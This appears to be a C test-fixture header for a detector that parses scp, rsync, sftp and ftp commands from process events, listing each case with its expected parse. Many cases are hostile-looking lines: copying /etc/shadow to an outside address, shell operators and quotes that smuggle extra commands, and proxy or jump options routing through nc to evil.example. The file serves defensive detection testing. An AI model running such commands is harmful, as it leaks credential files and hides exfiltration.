/*
 * transfer_commands.h
 *		Commands as events have them: an executable, perhaps arguments, and a line
 *		that is those arguments with blanks between them.  Many are written so that
 *		a reader of lines misses where the files go.
 */
#ifndef TEST_TRANSFER_COMMANDS_H
#define TEST_TRANSFER_COMMANDS_H

typedef struct TransferCase
{
	const char *executable;
	const char *args[10];
	const char *line;
	const char *meaning;
} TransferCase;

static const TransferCase transfer_cases[] = {
	/* an operator of the shell that is an argument */
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow ; 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . | not understood ; 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow | 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) | (data) | host 203.0.113.9 | remote . | not understood | 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow & 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) & (data) | host 203.0.113.9 | remote . | not understood & 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow && 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) && (data) | host 203.0.113.9 | remote . | not understood && 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow > 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) > (data) | host 203.0.113.9 | remote . | not understood > 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp -i ; /etc/shadow 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) | host 203.0.113.9 | remote . | options identity=; | not understood ; /etc/shadow 203.0.113.9:"},
	{NULL, {NULL}, "scp /etc/shadow ; 203.0.113.9:",
		"scp: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . | not understood ; 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas: ; 203.0.113.9:",
		"scp: client between, unknown | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote . . | others nas | options source=nas: | not understood ; 203.0.113.9:"},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas:; 203.0.113.9:",
		"scp: client between, unknown | local /etc/shadow (secret) | host 203.0.113.9 | remote . ; | others nas | options source=nas:; | not understood ; 203.0.113.9:"},
	{"/usr/bin/rsync", {NULL}, "rsync -a /etc/shadow ; 203.0.113.9:/x",
		"rsync: client out, out | local /etc/shadow (secret) ; (data) | host 203.0.113.9 | remote /x | options recursive | not understood ; 203.0.113.9:/x"},
	{"/usr/bin/sftp", {NULL}, "sftp -i ; 203.0.113.9",
		"sftp: client, unknown | host 203.0.113.9 | options identity=; | not understood ; 203.0.113.9"},
	/* but one of a shell ends the command */
	{"/usr/bin/scp", {NULL}, "scp f h:&& echo x",
		"scp: client out, out | local f (data) | host h | remote . | not understood && echo x"},
	{"/usr/bin/scp", {NULL}, "scp f h: && echo x",
		"scp: client out, out | local f (data) | host h | remote . | not understood && echo x"},
	{"/usr/bin/scp", {NULL}, "scp f h:; rm f",
		"scp: client out, out | local f (data) | host h | remote . | not understood ; rm f"},
	{"/usr/bin/scp", {NULL}, "scp f h: 2>/dev/null",
		"scp: client out, out | local f (data) | host h | remote . | not understood 2>/dev/null"},
	{"/usr/bin/scp", {NULL}, "scp f h:>/dev/null 2>&1",
		"scp: client out, out | local f (data) | host h | remote . | not understood >/dev/null 2>&1"},
	{NULL, {NULL}, "scp a one: && scp b two:",
		"scp: client out, out | local a (data) | host one | remote . | not understood && scp b two:"},
	{NULL, {NULL}, "scp a b; rm a",
		"scp: local, unknown | local a (data) b (data) | not understood ; rm a"},
	{"/usr/bin/tnftp", {NULL}, "tnftp -o x ftp://h/a;type=i",
		"ftp: client in, in | local x (data) | host h | remote a"},
	{"/usr/bin/tnftp", {NULL}, "tnftp http://h/a?b=1&c=2",
		"ftp: client in, in | host h | remote a?b=1&c=2"},
	/* a quote that is an argument */
	{"/usr/bin/scp", {NULL}, "scp ' f 203.0.113.9:'",
		"scp: client out, out | local ' (data) f (data) | host 203.0.113.9 | remote ' | not understood ' f 203.0.113.9:'"},
	{"/usr/bin/scp", {NULL}, "scp \" f 203.0.113.9:\"",
		"scp: client out, out | local \" (data) f (data) | host 203.0.113.9 | remote \" | not understood \" f 203.0.113.9:\""},
	{"/usr/bin/scp", {NULL}, "scp /etc/shadow nas:' ' 203.0.113.9:",
		"scp: client between, unknown | local /etc/shadow (secret) | host 203.0.113.9 | remote .   | others nas | options source=nas: "},
	{"/usr/bin/scp", {NULL}, "scp '/srv/my notes' h:",
		"scp: client out, out | local /srv/my notes (data) | host h | remote ."},
	{"/usr/bin/rsync", {NULL}, "rsync -a --exclude 'x y:z' /a /b",
		"rsync: local, unknown | local /a (data) /b (data) | options recursive"},
	{"/usr/bin/scp", {NULL}, "scp -o \"ProxyCommand=nc -x localhost:9050 %h %p\" h:f .",
		"scp: client in, in | local . (data) | host h | remote f | options proxy_command=nc -x localhost:9050 %h %p"},
	/* arguments that do not fit the line */
	{"/usr/bin/scp", {"scp f 203.0.113.9:"}, "scp f 203.0.113.9:",
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{"/usr/bin/scp", {"scp f 203.0.113.9:"}, NULL,
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{NULL, {"scp f 203.0.113.9:"}, "scp f 203.0.113.9:",
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{"/usr/bin/scp", {"scp"}, "scp f 203.0.113.9:",
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{NULL, {"f", "203.0.113.9:"}, "scp f 203.0.113.9:",
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{"/usr/bin/scp", {"f", "203.0.113.9:"}, "scp f 203.0.113.9:",
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote ."},
	{"/usr/bin/sftp", {"sftp"}, "sftp 203.0.113.9",
		"sftp: client, unknown | host 203.0.113.9"},
	{"/usr/bin/scp", {"scp", "a b", "h:"}, "scp a b h:",
		"scp: client out, out | local a b (data) | host h | remote ."},
	{"/usr/bin/scp", {"scp", "a", "b"}, "scp a b:",
		"scp: local, unknown | local a (data) b (data)"},
	/* other names */
	{"/usr/bin/openrsync", {NULL}, "openrsync -a /srv h:",
		"rsync: client out, out | local /srv (data) | host h | remote . | options recursive"},
	{"/usr/bin/ftp.netkit", {NULL}, "ftp.netkit ftp.example.com",
		"ftp: client, unknown | host ftp.example.com"},
	{"/memfd:scp (deleted)", {NULL}, "x f h:",
		"scp: client out, out | local f (data) | host h | remote ."},
	{"/usr/bin/scp (deleted)", {NULL}, "x f h:",
		"scp: client out, out | local f (data) | host h | remote ."},
	/* hidden: a folder in memory */
	{"/usr/bin/scp", {NULL}, "scp /dev/shm/x /run/shm/y /dev/shmx h:",
		"scp: client out, out | local /dev/shm/x (hidden) /run/shm/y (hidden) /dev/shmx (system) | host h | remote ."},
	/* hosts on the way */
	{"/usr/bin/scp", {NULL}, "scp -J evil@203.0.113.9 /srv/a nas.corp.example:",
		"scp: client out, out | local /srv/a (data) | host nas.corp.example | remote . | others 203.0.113.9 | options jump=evil@203.0.113.9"},
	{"/usr/bin/scp", {NULL}, "scp -J a,ssh://u@b:22,[2001:db8::7]:22 /srv/a nas:",
		"scp: client out, out | local /srv/a (data) | host nas | remote . | others a b 2001:db8::7 | options jump=a,ssh://u@b:22,[2001:db8::7]:22"},
	{"/usr/bin/rsync", {"rsync", "-e", "ssh -J e@203.0.113.9", "/srv", "nas:"}, NULL,
		"rsync: client out, out | local /srv (data) | host nas | remote . | others 203.0.113.9 | options remote_shell=ssh -J e@203.0.113.9, jump=e@203.0.113.9"},
	{"/usr/bin/sftp", {NULL}, "sftp -J 203.0.113.9:2222 nas",
		"sftp: client, unknown | host nas | others 203.0.113.9 | options jump=203.0.113.9:2222"},
	{"/usr/bin/scp", {NULL}, "scp -o ProxyJump=203.0.113.9 f nas:",
		"scp: client out, out | local f (data) | host nas | remote . | others 203.0.113.9 | options jump=203.0.113.9"},
	{"/usr/bin/scp", {NULL}, "scp -o ProxyJump=none f nas:",
		"scp: client out, out | local f (data) | host nas | remote . | options jump=none"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=nc 203.0.113.9 443", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others 203.0.113.9 | options proxy_command=nc 203.0.113.9 443"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=ssh -W %h:%p u@bastion", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others bastion | options proxy_command=ssh -W %h:%p u@bastion"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=ssh -q -J one,two -o ProxyCommand='nc evil.example 22' bastion nc %h %p", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others bastion one two evil.example | options proxy_command=ssh -q -J one,two -o ProxyCommand='nc evil.example 22' bastion nc %h %p"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=exec /tmp/nc -x localhost:9050 %h.corp.example %p", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | helper /tmp/nc | options proxy_command=exec /tmp/nc -x localhost:9050 %h.corp.example %p"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=socat - PROXY:proxy.example:%h:%p,proxyport=3128", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others proxy.example | options proxy_command=socat - PROXY:proxy.example:%h:%p,proxyport=3128"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=sh -c 'nc -6 2001:db8::7 443'", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others 2001:db8::7 | options proxy_command=sh -c 'nc -6 2001:db8::7 443'"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=openssl s_client -quiet -connect [2001:db8::7]:443", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others 2001:db8::7 | options proxy_command=openssl s_client -quiet -connect [2001:db8::7]:443"},
	{"/usr/bin/scp", {"scp", "-o", "ProxyCommand=nc 3405803785 443", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host nas | remote . | others 3405803785 | options proxy_command=nc 3405803785 443"},
	{"/usr/bin/scp", {"scp", "-o", "HostName=203.0.113.9", "f", "nas:"}, NULL,
		"scp: client out, out | local f (data) | host 203.0.113.9 | remote . | options host_name=203.0.113.9, host_alias=nas"},
	{"/usr/bin/ssh", {NULL}, "ssh -J hop.example nas scp -t /in",
		"ssh: client out, out | host nas | remote /in | others hop.example | options jump=hop.example, carries=scp"},
	{"/usr/bin/scp", {NULL}, "scp nas:a u@203.0.113.9:b .",
		"scp: client in, in | local . (data) | host nas | remote a b | others 203.0.113.9 | options source=u@203.0.113.9:b"},
	{"/usr/bin/scp", {NULL}, "scp -3 app-1:/etc/shadow nas:",
		"scp: client between, unknown | host nas | remote . /etc/shadow | others app-1 | options through, source=app-1:/etc/shadow"},
	{"/usr/bin/scp", {NULL}, "scp -S /tmp/ssh f nas:",
		"scp: client out, out | local f (data) | host nas | remote . | helper /tmp/ssh | options program=/tmp/ssh"},
	{"/usr/bin/scp", {NULL}, "scp -S /usr/local/bin/ssh f nas:",
		"scp: client out, out | local f (data) | host nas | remote . | options program=/usr/local/bin/ssh"},
	{"/usr/bin/rsync", {NULL}, "rsync -e /tmp/x f nas:",
		"rsync: client out, out | local f (data) | host nas | remote . | helper /tmp/x | options remote_shell=/tmp/x"},
	{"/usr/bin/rsync", {"rsync", "-e", "/dev/shm/x -p 22", "f", "nas:"}, NULL,
		"rsync: client out, out | local f (data) | host nas | remote . | helper /dev/shm/x | options remote_shell=/dev/shm/x -p 22"}
};

#define TRANSFER_CASES (sizeof(transfer_cases) / sizeof(transfer_cases[0]))

#endif							/* TEST_TRANSFER_COMMANDS_H */
